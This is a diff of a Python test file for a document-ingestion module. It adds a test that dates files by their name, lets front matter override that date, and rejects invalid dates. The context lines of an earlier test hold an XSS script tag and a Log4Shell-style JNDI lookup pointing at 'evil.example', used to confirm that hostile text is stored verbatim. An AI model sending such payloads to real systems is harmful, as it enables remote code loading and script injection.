@@ -149,3 +149,17 @@ def test_script_injection_is_kept_verbatim() -> None:
     assert doc.text == path.read_bytes().decode("utf-8")
     assert '<script>alert("pwned")</script>' in doc.text
     assert "${jndi:ldap://evil.example/a}" in doc.text
+
+
+def test_a_file_named_by_date_is_dated_by_its_name_when_nothing_else_dates_it(tmp_path):
+    from sitroom.ingest import read_file
+
+    plain = tmp_path / "2025-11-22-desk-notes.txt"
+    plain.write_text("Notes on the talks in Geneva and the army cap.\n", encoding="utf-8")
+    assert read_file(plain)[0].published.isoformat() == "2025-11-22T00:00:00+00:00"
+    dated = tmp_path / "2025-11-22-column.md"
+    dated.write_text("---\npublished: 2025-11-24\n---\nA column on the loan.\n", encoding="utf-8")
+    assert read_file(dated)[0].published.date().isoformat() == "2025-11-24"  # front matter wins
+    odd = tmp_path / "2025-13-40-notes.txt"
+    odd.write_text("Not a date in the name.\n", encoding="utf-8")
+    assert read_file(odd)[0].published is None
